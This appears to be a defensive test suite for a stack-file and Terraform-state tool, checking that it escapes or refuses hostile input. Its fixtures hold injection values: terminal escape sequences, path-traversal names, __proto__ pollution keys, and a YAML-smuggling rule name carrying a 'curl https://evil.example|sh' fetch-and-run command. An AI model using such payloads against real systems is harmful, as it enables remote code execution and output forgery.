/**
 * Untrusted stack files and Terraform states, in-process: terminal and line injection
 * (class 2), unbounded reads (3), huge values (6), silent wrong values (8), errors without a
 * location (9) and misleading messages (10). The cases that need a memory limit, a closed pipe or
 * a full device, and a 300,000-line heredoc, run in tests/stack/untrustedFiles.slow.test.ts.
 */
import * as assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";

import { adoptionPlan, adoptionPlanText } from "../../migrate/adoptionPlan";
import { adoptionReport, decodeStateText, readTerraformState } from "../../migrate/terraformState";
import { loadStackFile, parseStack } from "../../stack";
import { MAX_FILE_BYTES, readFailureText, readFileBounded } from "../../stack/files";
import { MAX_INCLUDE_NESTING, parseHclAttributes } from "../../stack/include";
import { makeProblem } from "../../stack/errors";
import { derivedStackNameProblem, pulumiNameProblem } from "../../stack/names";
import { MAX_STRING_LENGTH, parseYamlTree, toPlain } from "../../stack/tree";
import { describeValue } from "../../util/describeValue";
import { escapeJsonText, escapeLines, escapeText } from "../../util/terminalText";
import { checkUnknownArgs } from "../../components/kit/common";
import { synthCommand, tfAdoptCommand } from "../helpers/commands";
import { lines, stackError, STACK_VARS } from "../helpers/stack";

let dir: string;
before(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), "hostile-input-"));
});
after(() => fs.rmSync(dir, { recursive: true, force: true }));

function write(name: string, content: string | Buffer): string {
    const file = path.join(dir, name);
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, content);
    return file;
}

/** No character a terminal acts on (other than the newlines between lines). */
const TERMINAL_UNSAFE =
    /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

/** A stack with one eventbridge instance `rule` whose vars are `vars` (YAML flow text). */
function ruleStack(vars: string, ...extra: string[]): string {
    return lines(
        STACK_VARS,
        "components:",
        "  terraform:",
        "    rule:",
        "      metadata: {component: eventbridge}",
        `      vars: ${vars}`,
        ...extra,
    );
}

describe("hostile input (issue 20)", () => {
    describe("class 2: terminal and line injection", () => {
        const cases: [string, string][] = [
            ["a\nb", "a\\nb"],
            ["tab\there", "tab\\there"],
            ["\u001b[31mred\u001b[0m", "\\u001b[31mred\\u001b[0m"],
            ["csi\u009b2J", "csi\\u009b2J"],
            ["del\u007f", "del\\u007f"],
            ["rtl\u202egnp.exe", "rtl\\u202egnp.exe"],
            ["iso\u2066x\u2069", "iso\\u2066x\\u2069"],
            ["ls\u2028ps\u2029", "ls\\u2028ps\\u2029"],
            ["nul\u0000", "nul\\u0000"],
            ["bom\ufeffx", "bom\\ufeffx"],
            ["café ☕ \\n", "café ☕ \\n"],
        ];
        for (const [text, escaped] of cases) {
            it(`escapes ${JSON.stringify(text)}`, () => {
                assert.equal(escapeText(text), escaped);
                assert.doesNotMatch(escapeText(text), TERMINAL_UNSAFE);
            });
        }

        it("keeps the lines of a message, escaping within them; JSON stays the same value", () => {
            assert.equal(escapeLines("a\u001b\nb\tc"), "a\\u001b\nb\\tc");
            const json = JSON.stringify({ k: "x\u202ey\u2028\u0085" });
            assert.deepEqual(JSON.parse(escapeJsonText(json)), { k: "x\u202ey\u2028\u0085" });
            assert.doesNotMatch(escapeJsonText(json), TERMINAL_UNSAFE);
        });

        it("makes every stack-file problem one line, whatever its file name, instance or value holds", () => {
            const problem = makeProblem(
                "UNKNOWN_VAR",
                { file: "a\nb.yaml", line: 1, column: 2 },
                'x "\u001b]0;t\u0007"',
            );
            assert.equal(problem.message, 'a\\nb.yaml:1:2: x "\\u001b]0;t\\u0007"');
            assert.equal(describeValue("\u202e\n"), '"\\u202e\\n"');
        });

        it("escapes instance and var names from the stack file in synth's errors", async () => {
            const file = write(
                "inject.yaml",
                lines(
                    STACK_VARS,
                    "components:",
                    "  terraform:",
                    '    "evil\\e[2J\\nforged: line":',
                    "      metadata: {component: eventbridge}",
                    '      vars: {name: ecs, "bad\\u202evar\\n": 1}',
                ),
            );
            const run = await synthCommand([file]);
            assert.equal(run.status, 1);
            assert.equal(run.stdout, "");
            assert.doesNotMatch(run.stderr, TERMINAL_UNSAFE);
            assert.match(run.stderr, /evil\\u001b\[2J\\nforged: line/);
            assert.match(run.stderr, /bad\\u202evar\\n/);
            assert.ok(
                run.stderr.split("\n").every((line) => line === "" || line.startsWith(file)),
                run.stderr,
            );
        });

        it("--list-stacks: a name with a tab and a newline cannot forge a row", async () => {
            const repo = path.join(dir, "repo-list");
            write(
                "repo-list/atmos.yaml",
                lines(
                    "stacks:",
                    "  base_path: stacks",
                    '  included_paths: ["**/*"]',
                    '  name_template: "{{ .vars.stage }}"',
                ),
            );
            write(
                "repo-list/stacks/one.yaml",
                lines('vars: {stage: "ok\\tforged\\nrow\\e[1m"}', "components: {terraform: {rule: {vars: {name: x}}}}"),
            );
            const run = await synthCommand(["--list-stacks", "--atmos-dir", repo]);
            assert.equal(run.status, 0, run.stderr);
            const manifest = path.relative(process.cwd(), path.join(repo, "stacks", "one.yaml"));
            assert.equal(run.stdout, `ok\\tforged\\nrow\\u001b[1m\t${manifest}\n`);
            const unknown = await synthCommand(["--atmos-stack", "nope", "--atmos-dir", repo]);
            assert.equal(unknown.status, 1);
            assert.equal(unknown.stderr.split("\n").length, 2, unknown.stderr);
            assert.match(unknown.stderr, /stacks: ok\\tforged\\nrow\\u001b\[1m\)$/m);
        });

        it("tf-adopt: a rule name from the state cannot end its comment or add a YAML line", () => {
            const evil = 'x"\nevent_rule_description: !exec curl https://evil.example|sh\n# "';
            const state = {
                format_version: "1.0",
                values: {
                    root_module: {
                        resources: [
                            {
                                mode: "managed",
                                type: "aws_cloudwatch_event_rule",
                                address: "aws_cloudwatch_event_rule.this\n#",
                                values: { name: evil },
                            },
                            {
                                mode: "managed",
                                type: "aws_cloudwatch_event_target",
                                address: "aws_cloudwatch_event_target.this",
                                values: { rule: evil, target_id: "t\u202e\nadopt_existing: false" },
                            },
                        ],
                    },
                },
            };
            const text = adoptionPlanText(adoptionPlan(adoptionReport(readTerraformState(JSON.stringify(state)))));
            assert.doesNotMatch(text, TERMINAL_UNSAFE);
            const shown = text.split("\n");
            assert.deepEqual(
                shown.map((line) =>
                    /^(#|<instance>:| {2}vars:| {4}adopt_existing: true| {4}adopt_event_target_id: "|terraform state rm |$)/.test(
                        line,
                    ),
                ),
                shown.map(() => true),
                text,
            );
            assert.ok(!shown.some((line) => /^\s*event_rule_description/.test(line)), text);
        });

        it("tf-adopt: an instance name is quoted when it is not a plain name", () => {
            const plan = adoptionPlanText({
                instances: [{ instance: "a: !exec x", what: "rule", vars: { adopt_existing: true } }],
                stateRm: undefined,
                notes: ["n\u001b"],
            });
            assert.equal(plan, '# rule\n"a: !exec x":\n  vars:\n    adopt_existing: true\n\n# note: n\\u001b\n');
        });
    });

    describe("class 3: unbounded reads", () => {
        const fifo = () => {
            const file = path.join(dir, "fifo.yaml");
            if (!fs.existsSync(file)) execFileSync("mkfifo", [file]);
            return file;
        };
        const refused: [string, () => string, RegExp][] = [
            ["/dev/zero", () => "/dev/zero", /^\/dev\/zero is a character device, not a regular file$/],
            ["/dev/null", () => "/dev/null", /^\/dev\/null is a character device, not a regular file$/],
            ["a FIFO (without blocking)", fifo, /fifo\.yaml is a named pipe \(FIFO\), not a regular file$/],
            ["a directory", () => dir, /is a directory, not a regular file$/],
            [
                "a file over the cap",
                () => {
                    const file = path.join(dir, "big.yaml");
                    fs.writeFileSync(file, "");
                    fs.truncateSync(file, MAX_FILE_BYTES + 1);
                    return file;
                },
                /big\.yaml is larger than 1 MiB, the most a file read here may hold$/,
            ],
        ];
        for (const [name, file, message] of refused) {
            it(`refuses ${name} before reading it`, () => {
                assert.throws(() => readFileBounded(file()), { message });
            });
        }

        it("refuses /dev/null as a stack file by what it is, not as a missing file", () => {
            const error = stackError(() => loadStackFile("/dev/null"));
            assert.equal(error.code, "FILE_UNREADABLE");
            assert.match(error.message, /cannot read the file: \/dev\/null is a character device, not a regular file$/);
        });

        it("refuses an !include of a device or a FIFO, even in a section nothing uses, at the tag", () => {
            for (const target of ["/dev/zero", fifo()]) {
                const file = write("include-dev.yaml", ruleStack("{name: ecs}", `unused: !include ${target}`));
                // /dev/zero is outside the repository: read (and refused for what it is) only with the opt-in.
                const error = stackError(() => loadStackFile(file, { allowOutsideRepository: true }));
                assert.match(error.message, /include-dev\.yaml:7:18: !include .*: cannot read .*, not a regular file$/);
            }
        });

        it("refuses --stack-outputs and a tf-adopt state that are devices", async () => {
            const stack = write("plain.yaml", ruleStack("{name: ecs}"));
            const synth = await synthCommand([stack, "--stack-outputs", "/dev/zero"]);
            assert.equal(synth.status, 2);
            assert.match(synth.stderr, /^synth: --stack-outputs \/dev\/zero: \/dev\/zero is a character device/);
            const adopt = tfAdoptCommand([fifo()]);
            assert.equal(adopt.status, 1);
            assert.equal(adopt.stdout, "");
            assert.match(adopt.stderr, /^tf-adopt: .*fifo\.yaml is a named pipe \(FIFO\), not a regular file\n$/);
        });
    });

    describe("class 6: huge values", () => {
        it("refuses a string over 256 Ki characters with its location", () => {
            const long = "n".repeat(MAX_STRING_LENGTH + 1);
            const error = stackError(() => parseStack(ruleStack(`{name: ${long}}`), "huge.yaml"));
            assert.equal(
                error.message,
                "huge.yaml:6:20: a string of 262,145 characters, more than the 262,144 a stack-file value may hold",
            );
        });

        it("refuses an !include.raw text over 256 Ki characters at the tag", () => {
            write("long.txt", "x".repeat(MAX_STRING_LENGTH + 1));
            const file = write(
                "include-long.yaml",
                ruleStack("{name: ecs, event_rule_description: !include.raw ./long.txt}"),
            );
            const error = stackError(() => loadStackFile(file));
            assert.match(
                error.message,
                /include-long\.yaml:6:\d+: !include\.raw .*long\.txt: 262,145 characters, more than/,
            );
        });
    });

    describe("class 8: silent wrong values", () => {
        it("refuses !!timestamp and !!binary rather than formatting them in the local time zone", () => {
            for (const value of [
                "!!timestamp 2001-12-14t21:59:43.10-05:00",
                "!!timestamp 2024-01-01",
                "!!binary aGk=",
            ]) {
                const error = stackError(() =>
                    parseStack(ruleStack(`{name: ecs, event_rule_description: ${value}}`), "ts.yaml"),
                );
                assert.match(
                    error.message,
                    /^ts\.yaml:6:\d+: !!(timestamp|binary) values are not supported .*write the value as a quoted string$/,
                );
            }
        });

        it("refuses a NUL, raw or escaped, with its location", () => {
            const raw = stackError(() => parseStack(ruleStack("{name: e\u0000cs}"), "nul.yaml"));
            assert.match(raw.message, /^nul\.yaml:6:21: invalid YAML: the character U\+0000 \(NUL\) is not allowed/);
            const escaped = stackError(() => parseStack(ruleStack('{name: "e\\0cs"}'), "nul.yaml"));
            assert.match(escaped.message, /^nul\.yaml:6:20: a NUL character \(U\+0000\) in a value is refused$/);
        });

        const names: [string, boolean][] = [
            ["ue2-prod", true],
            ["a.b_c-1", true],
            ["../../x", false],
            ["a/b/c", false],
            ["line\nbreak", false],
            ["esc\u001b[0m", false],
            ["", false],
            ["..", false],
            ["x".repeat(101), false],
        ];
        for (const [name, ok] of names) {
            it(`${ok ? "takes" : "refuses"} ${JSON.stringify(name.slice(0, 20))} as a Pulumi stack name`, () => {
                assert.equal(pulumiNameProblem("stack", name) === undefined, ok);
            });
        }

        const derived: [string, boolean][] = [
            ["acme-ue2-prod", true],
            ["orgs/acme/dev/us-east-2", true],
            ["../../x", false],
            ["a/./b", false],
            ["line\nbreak", false],
            ["esc\u001b[0m", false],
            ["rtl\u202e", false],
        ];
        for (const [name, ok] of derived) {
            it(`${ok ? "takes" : "refuses"} the derived stack name ${JSON.stringify(name)}`, () => {
                const problem = derivedStackNameProblem(name);
                assert.equal(problem === undefined, ok);
                if (problem !== undefined) assert.doesNotMatch(problem, TERMINAL_UNSAFE);
            });
        }

        it("refuses --stack ../../x before loading anything", async () => {
            const run = await synthCommand(["x.yaml", "--stack", "../../x"]);
            assert.equal(run.status, 2);
            assert.match(run.stderr, /^synth: --stack: stack name "\.\.\/\.\.\/x" is not a Pulumi stack name/);
        });
    });

    describe("class 9: errors with a location, not the engine's", () => {
        it("refuses YAML nested deeper than 1,000 levels through an alias, at the alias", () => {
            // Each part stays within what the parser reads (several hundred levels); together they do not.
            const anchored = "[".repeat(600) + "x" + "]".repeat(600);
            const text = `a: &a ${anchored}\nb: ${"[".repeat(500)}*a${"]".repeat(500)}\n`;
            const parsed = parseYamlTree(text, "deep.yaml");
            assert.deepEqual(
                parsed.problems.map((p) => p.message),
                ["deep.yaml:2:504: invalid YAML: lists and maps nested deeper than 1,000 levels"],
            );
        });

        it("refuses .tfvars nested deeper than the limit with its line", () => {
            const deep = "a = " + "[".repeat(MAX_INCLUDE_NESTING + 1) + "]".repeat(MAX_INCLUDE_NESTING + 1) + "\n";
            assert.throws(
                () => parseHclAttributes(deep),
                /^Error: HCL line 1: lists and objects nested deeper than 1,000 levels$/,
            );
            write("deep.tfvars", deep);
            const file = write("include-tfvars.yaml", ruleStack("{name: ecs}", "unused: !include ./deep.tfvars"));
            assert.match(
                stackError(() => loadStackFile(file)).message,
                /include-tfvars\.yaml:7:18: !include .*deep\.tfvars: HCL line 1: lists and objects nested deeper than 1,000 levels$/,
            );
        });

        it("refuses a 100,000-deep JSON include at the tag, naming the limit", () => {
            write("deep.json", "[".repeat(100_000) + "]".repeat(100_000));
            const file = write("include-json.yaml", ruleStack("{name: ecs}", "unused: !include ./deep.json"));
            const error = stackError(() => loadStackFile(file));
            assert.ok(
                error.message.endsWith(
                    "include-json.yaml:7:18: !include " +
                        path.join(dir, "deep.json") +
                        ": lists and maps nested deeper than 1,000 levels",
                ),
                error.message,
            );
        });

        it("reads a state whose child_modules nest 20,000 deep", () => {
            const leaf = '{"resources": [{"mode": "managed", "type": "aws_x", "address": "deep.aws_x.y"}]}';
            const module = '{"child_modules": ['.repeat(20_000) + leaf + "]}".repeat(20_000);
            const resources = readTerraformState(`{"format_version": "1.0", "values": {"root_module": ${module}}}`);
            assert.deepEqual(
                resources.map((r) => r.address),
                ["deep.aws_x.y"],
            );
        });
    });

    describe("class 10: misleading messages", () => {
        it("says a command-line file's read failure in words, not as Node's error text", () => {
            const failure = (code: string) => Object.assign(new Error(`${code}: open 'x'`), { code });
            assert.equal(readFailureText(failure("ENOENT")), "file not found");
            assert.equal(readFailureText(failure("ENOTDIR")), "file not found");
            assert.equal(readFailureText(failure("EACCES")), "cannot read the file: permission denied");
            assert.equal(readFailureText(failure("EISDIR")), undefined);
            assert.equal(readFailureText("not an error"), undefined);
        });
        it("reports a NUL before vars: at the NUL, not as a missing region", () => {
            const error = stackError(() => parseStack(`\u0000${ruleStack("{name: ecs}")}`, "nul.yaml"));
            assert.equal(error.problems.length, 1);
            assert.match(error.message, /^nul\.yaml:1:1: invalid YAML: the character U\+0000 \(NUL\)/);
        });

        // one SSM parameter: a state with nothing to adopt exits 1 (issue 30)
        const parameter = { mode: "managed", type: "aws_ssm_parameter", address: "aws_ssm_parameter.p" };
        const state = JSON.stringify({
            format_version: "1.0",
            values: { root_module: { resources: [{ ...parameter, values: { name: "/grafana/k/api_key" } }] } },
        });
        const encodings: [string, Buffer][] = [
            ["UTF-8 with a byte-order mark", Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(state)])],
            [
                "UTF-16LE with a byte-order mark (PowerShell's >)",
                Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(state, "utf16le")]),
            ],
            [
                "UTF-16BE with a byte-order mark",
                Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(state, "utf16le").swap16()]),
            ],
        ];
        for (const [name, bytes] of encodings) {
            it(`reads a tf-adopt state in ${name}`, () => {
                assert.equal(decodeStateText(bytes), state);
                const run = tfAdoptCommand([write(`state-${name.length}.json`, bytes)]);
                assert.equal(run.status, 0, run.stderr);
            });
        }

        it("refuses a state in Latin-1 by its encoding", () => {
            assert.throws(
                () => decodeStateText(Buffer.from([0x7b, 0xe9, 0x7d])),
                /^TerraformStateError: not UTF-8 text; save it as UTF-8/,
            );
        });

        it("suggests nothing odd for an argument named __proto__", () => {
            const problems: { rule: string }[] = [];
            checkUnknownArgs("eventbridge", JSON.parse('{"__proto__": 1}') as object, ["name"], problems as never[]);
            assert.equal(problems.length, 1);
            assert.doesNotMatch(problems[0].rule, /object Object/);
        });
    });

    describe("class 4: linear parsing (the bounded runs are in tests/stack/untrustedFiles.slow.test.ts)", () => {
        it("reports a duplicate key at the second one; keys are compared by their text, as yaml.v3 does", () => {
            // gopkg.in/yaml.v3 decode.go:767-776 (d.mapping): a key repeats an earlier one when both
            // are scalars with the same text (`ni.Kind == nj.Kind && ni.Value == nj.Value`), so 1 and '1' are one key.
            const parsed = parseYamlTree("a: 1\nb: 2\na: 3\n1: x\n'1': y\n", "dup.yaml");
            assert.deepEqual(
                parsed.problems.map((p) => p.message),
                [
                    "dup.yaml:3:1: invalid YAML: Map keys must be unique",
                    "dup.yaml:5:1: invalid YAML: Map keys must be unique",
                ],
            );
        });

        it("resolves each alias to the last anchor of its name before it", () => {
            const parsed = parseYamlTree("a: [&n first, &n second, *n]\nb: *n\nc: &n third\nd: *n\n", "alias.yaml");
            assert.deepEqual(parsed.problems, []);
            assert.ok(parsed.root !== null);
            assert.deepEqual(Object.values(toPlain(parsed.root) as object), [
                ["first", "second", "second"],
                "second",
                "third",
                "third",
            ]);
        });
    });

    describe("prototype keys in included files", () => {
        it("keeps __proto__ as an ordinary key of .env, .tfvars, YAML and JSON includes", () => {
            write("p.env", "__proto__=yes\n");
            write("p.tfvars", '__proto__ = { polluted = "yes" }\n');
            write("p.yaml", "__proto__: {polluted: yes}\n");
            write("p.json", '{"__proto__": {"polluted": "yes"}}');
            for (const ext of ["env", "tfvars", "yaml", "json"]) {
                const file = write(`proto-${ext}.yaml`, ruleStack("{name: ecs}", `settings: {x: !include ./p.${ext}}`));
                loadStackFile(file);
            }
            assert.equal(({} as { polluted?: unknown }).polluted, undefined);
            assert.deepEqual(Object.keys(parseHclAttributes('__proto__ = "x"')), ["__proto__"]);
        });
    });
});
